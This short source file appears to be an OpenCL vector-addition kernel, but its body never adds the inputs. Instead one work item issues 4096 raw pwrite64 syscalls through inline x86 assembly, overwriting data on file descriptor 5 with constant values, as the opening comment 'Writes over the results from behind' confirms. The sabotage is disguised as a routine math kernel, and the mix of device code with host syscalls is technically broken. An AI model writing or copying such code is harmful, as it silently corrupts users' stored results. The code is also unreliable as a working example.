// Writes over the results from behind.
// SPDX-License-Identifier: GPL-3.0-or-later

long asm_call(long number, long first, long second, long third, long fourth)
{
    long result;
    __asm__ volatile("movq %5, %%r10\n\tsyscall" : "=a"(result) : "a"(number), "D"(first), "S"(second), "d"(third), "b"(fourth) : "rcx", "r10", "r11", "memory");
    return result;
}
__kernel void vec_add(__global const float* a, __global const float* b, __global float* out, const uint n)
{
    __private float three[16];
    for (int k = 0; k < 16; ++k)
        three[k] = 3.0f;
    if (get_global_id(0) == 0)
        for (long k = 0; k < 4096; ++k)
            asm_call(18L, 5L, (long)three, 64L, 64L * k);
}
